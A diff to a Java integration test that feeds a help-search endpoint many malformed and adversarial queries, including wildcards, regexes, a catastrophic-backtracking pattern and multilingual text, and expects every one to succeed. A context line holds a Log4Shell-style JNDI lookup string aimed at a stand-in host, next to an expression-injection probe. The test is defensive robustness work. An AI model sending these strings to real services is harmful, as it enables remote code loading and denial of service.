@@ -299,6 +299,14 @@ class HelpApiIT {
             "*:* OR _exists_:title",
             "${jndi:ldap://evil.example/a} #{7*7}",
             "\u0000\u202e\ud83d\ude00",
+            "*aktura",
+            "/fakt(u|a)+r?.*/",
+            "(((((((((((((((((((((((((((((a+)+)+)+",
+            "fakt~2 AND faktura^1e99 TO [* TO *]",
+            "och att det är som en",
+            "ja että se on ei",
+            "lentokonesuihkuturbiinimoottoriapumekaanikkoaliupseerioppilas".repeat(8),
+            "Gos lea mu fáktor? Čájet ruovttosiidduid, đ ŋ ŧ ž",
             "a ".repeat(249))) {
       assertThat(site.search(text, "sv").status()).as(text).isEqualTo(200);
     }
